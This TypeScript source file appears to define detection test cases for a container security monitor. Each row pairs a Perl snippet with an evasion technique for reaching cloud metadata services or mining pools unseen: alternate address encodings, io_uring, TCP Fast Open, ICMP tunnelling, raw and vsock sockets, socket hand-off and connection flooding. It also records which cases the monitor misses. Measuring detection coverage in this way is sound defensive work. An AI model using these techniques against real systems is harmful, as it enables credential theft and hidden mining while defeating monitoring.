import { type ContainerRow, type Family, type Outcome, otherwise, SEEN, type Sign, unseen } from './model.ts';

const METADATA = 'cloud_metadata_service';
const POOL = 'mining_port';
const EXTERNAL = 'external_destination';
const CLUSTER = 'cluster_destination';
const needs = { network: true };

const ONLY_TCP = 'the kernel tells of TCP connects alone, and the other tables hold only who listens';
const BPF_ON_SEND = 'a BPF program on connect(2) and sendmsg(2), on every node';

function reached(
  id: string,
  attack: string,
  perl: string,
  evades: readonly [Sign, ...Sign[]],
  outcome: Outcome = SEEN,
): ContainerRow {
  return { id, in: 'container', attack, evades, outcome, needs, perl };
}

/** Connects to the metadata service by one of its addresses. */
const metadata = (id: string, what: string, address: string, outcome: Outcome = SEEN) =>
  reached(id, `connects to ${what}, \`${address}\``, `reach("${address}", 80);`, [METADATA], outcome);

export const DESTINATIONS: Family = {
  title: 'Connections',
  note: 'In a network namespace in which every address answers for itself.',
  rows: [
    metadata('metadata', 'the metadata service', '169.254.169.254'),
    metadata('metadata-mapped', 'the metadata service as IPv4 in IPv6', '::ffff:169.254.169.254'),
    metadata('metadata-containers', 'the metadata service of ECS', '169.254.170.2'),
    metadata('metadata-pods', 'the metadata service of EKS', '169.254.170.23'),
    metadata('metadata-alibaba', 'the metadata service of Alibaba', '100.100.100.200'),
    metadata('metadata-aws6', 'the metadata service of AWS by IPv6', 'fd00:ec2::254'),
    metadata('metadata-gcp6', 'the metadata service of GCP by IPv6', 'fd20:ce::254'),
    metadata('metadata-oracle6', 'the metadata service of Oracle by IPv6', 'fd00:c1::a9fe:a9fe'),
    metadata('metadata-azure', "Azure's WireServer", '168.63.129.16'),
    metadata('metadata-nat64', 'the metadata service through NAT64', '64:ff9b::a9fe:a9fe'),
    metadata(
      'metadata-nat64-local',
      'the metadata service through a NAT64 of local use (RFC 8215)',
      '64:ff9b:1::a9fe:a9fe',
      otherwise(
        [EXTERNAL],
        'which prefix a network has for its own NAT64, only the network knows; any public address counts',
      ),
    ),
    metadata(
      'metadata-6to4',
      'the metadata service through 6to4',
      '2002:a9fe:a9fe::1',
      otherwise([EXTERNAL], 'no network carries such addresses there; any public address counts'),
    ),
    metadata(
      'metadata-compatible',
      'the metadata service as an IPv4-compatible address',
      '::169.254.169.254',
      otherwise([EXTERNAL], 'no network carries such addresses there; any public address counts'),
    ),
    reached(
      'metadata-other-port',
      'connects to the metadata service at another port',
      'reach("169.254.169.254", 8080);',
      [METADATA],
    ),
    reached(
      'metadata-user-space',
      'names the address as `http://2852039166/`, `0xa9.0xfe.0xa9.0xfe` or by a DNS name of its own',
      'reach(inet_ntoa(pack("N", 2852039166)), 80);',
      [METADATA],
    ),
    reached(
      'metadata-fast-open',
      'connects by TCP Fast Open: sendto(2) with MSG_FASTOPEN',
      'send(tcp("169.254.169.254"), "GET / HTTP/1.0\\r\\n\\r\\n", 0x20000000, sockaddr("169.254.169.254", 80));',
      [METADATA],
    ),
    reached(
      'metadata-multipath',
      'connects by Multipath TCP',
      'my $socket = tcp("169.254.169.254", 262); connect($socket, sockaddr("169.254.169.254", 80));',
      [METADATA],
    ),
    reached(
      'metadata-ring',
      'connects by io_uring, without the system call connect(2)',
      'ring_connect(tcp("169.254.169.254"), sockaddr("169.254.169.254", 80), 0);',
      [METADATA],
    ),
    reached(
      'metadata-ring-worker',
      "has a worker of io_uring connect, a thread of the kernel's",
      'ring_connect(tcp("169.254.169.254"), sockaddr("169.254.169.254", 80), 16);',
      [METADATA],
    ),
    reached(
      'metadata-thread',
      'connects from a thread',
      'eval { require threads; 1 } or cannot("perl has no threads"); threads->create(sub { reach("169.254.169.254", 80) })->join;',
      [METADATA],
    ),
    reached(
      'metadata-brief',
      'connects and resets the connection within a millisecond, in a process that is gone at once',
      'hears("0.0.0.0", 80); briefly(sub { my $socket = reach("169.254.169.254", 80); setsockopt($socket, SOL_SOCKET, SO_LINGER, pack("LL", 1, 0)); POSIX::_exit(0) });',
      [METADATA],
    ),
    reached(
      'metadata-own-network-namespace',
      'connects from a network namespace of its own (`unshare -n`)',
      'briefly(sub { try("unshare", 0x10000000); own_network(); reach("169.254.169.254", 80) });',
      [METADATA],
    ),
    {
      ...reached(
        'metadata-again',
        'connects to an address that its pod went to before, with a good reason',
        'reach("169.254.169.254", 80);',
        [METADATA],
        unseen(
          'a destination counts the first time that a pod goes there, so that a busy client is one event',
          'counting each connect, which for most pods would be traffic and not an event',
        ),
      ),
      earlier: 'reach("169.254.169.254", 80);',
    },
    reached(
      'metadata-udp',
      'asks by UDP (DNS and time of the cloud are there)',
      'socket(my $socket, PF_INET, SOCK_DGRAM, 0); connect($socket, sockaddr("169.254.169.253", 53)); send($socket, "?", 0); push @held, $socket;',
      [METADATA, EXTERNAL],
      unseen(ONLY_TCP, BPF_ON_SEND),
    ),
    {
      ...reached(
        'metadata-by-proxy',
        'has somebody else connect for it, through a unix socket that both have',
        'syswrite $mine, "?"; sysread $mine, my $answer, 1; die unless $answer eq "!";',
        [METADATA],
        unseen(
          'the connection counts for who makes it: another pod, or the host',
          'following what passes through unix sockets, by BPF',
        ),
      ),
      prepare:
        'socketpair(our $mine, my $theirs, PF_UNIX, SOCK_STREAM, 0); child(sub { sysread $theirs, my $asked, 1; reach("169.254.169.254", 80); syswrite $theirs, "!"; sleep 600 });',
    },
    reached('pool', 'connects to a mining pool at port 3333', 'reach("93.184.216.34", 3333);', [POOL]),
    reached(
      'pool-other-port',
      'connects to a pool at port 443',
      'reach("93.184.216.34", 443);',
      [POOL],
      otherwise([EXTERNAL], 'a first connection to any public address counts'),
    ),
    reached(
      'pool-in-cluster',
      'connects to a proxy of the pool within the cluster',
      'reach("10.0.0.7", 8080);',
      [POOL, EXTERNAL],
      otherwise([CLUSTER], 'a first connection to a private address counts'),
    ),
    reached(
      'external-mapped',
      'connects to a public address as IPv4 in IPv6',
      'reach("::ffff:93.184.216.34", 443);',
      [EXTERNAL],
    ),
    reached(
      'external-nat64',
      'connects to a public address through NAT64',
      'reach("64:ff9b::5db8:d822", 443);',
      [EXTERNAL],
    ),
    reached(
      'external-nobodys',
      'connects to an address that is nobody’s on the internet, and somebody’s here (`198.18.0.0/15`, `240.0.0.0/4`)',
      'reach("198.18.0.7", 443);',
      [EXTERNAL, CLUSTER],
      unseen(
        'these networks are reserved, so that they are neither public nor private',
        'a rule of your own on `address`, where your network uses them, costs nothing',
      ),
    ),
    reached(
      'external-udp',
      'talks to a public address by UDP (QUIC, DNS tunnels, WireGuard)',
      'socket(my $socket, PF_INET, SOCK_DGRAM, 0); connect($socket, sockaddr("93.184.216.34", 443)); send($socket, "?", 0); push @held, $socket;',
      [EXTERNAL],
      unseen(ONLY_TCP, BPF_ON_SEND),
    ),
    reached(
      'external-ping',
      'tunnels through pings, by a raw socket that it closes before the next scrape',
      'socket(my $socket, PF_INET, SOCK_RAW, 1) or cannot("socket: $!"); send($socket, pack("CCnnn", 8, 0, 0xf7fe, 1, 0) . "secret", 0, sockaddr("93.184.216.34", 0)); close $socket;',
      [EXTERNAL, 'network_sniffers raw_socket'],
      unseen('raw sockets are told of only while they are open, and no TCP is connected', BPF_ON_SEND),
    ),
    reached(
      'external-own-packets',
      'has a TCP of its own, on raw packets, closed before the next scrape',
      'socket(my $socket, 17, SOCK_RAW, 0x0300) or cannot("socket: $!"); close $socket;',
      [EXTERNAL, 'network_sniffers packet_socket'],
      unseen(
        'packet sockets are told of only while they are open, and the kernel knows of no connection',
        BPF_ON_SEND,
      ),
    ),
    reached(
      'external-vsock',
      'connects to the host of a virtual machine by AF_VSOCK, past all networks',
      'socket(my $socket, 40, SOCK_STREAM, 0) or cannot("AF_VSOCK: $!"); push @held, $socket; connect($socket, pack("SSLLx4", 40, 0, 1024, 2));',
      [EXTERNAL],
      unseen(
        'the kernel has no event and no table in /proc for it',
        'sock_diag(7) where the kernel has it for vsock, for which Node has no socket, or a BPF program; seccomp can forbid the family',
      ),
    ),
    reached(
      'external-accepted',
      'lets the other side connect to it, in place of connecting',
      'hears("0.0.0.0", 4444);',
      [EXTERNAL],
      otherwise(['listening_sockets tcp'], 'who is connected to has to listen'),
    ),
    {
      ...reached(
        'external-handed-over',
        'uses a connected socket that a process of the host gave it (SCM_RIGHTS, inheritance)',
        'syswrite $held[0], "secret";',
        [EXTERNAL],
        unseen('the connection counted for who made it', BPF_ON_SEND),
      ),
      prepare:
        'hears("0.0.0.0", 443); reach("93.184.216.34", 443); accept(my $other, $held[0]); close shift @held; push @held, $other;',
    },
    reached(
      'connections-flood',
      'connects to 9,000 other addresses first, so that what was seen is forgotten',
      'for my $i (1 .. 9000) { socket(my $s, PF_INET, SOCK_STREAM, 0); connect($s, pack_sockaddr_in(9, pack("C4", 10, 7, $i / 256, $i % 256))) } reach("169.254.169.254", 80);',
      [METADATA],
    ),
  ],
};
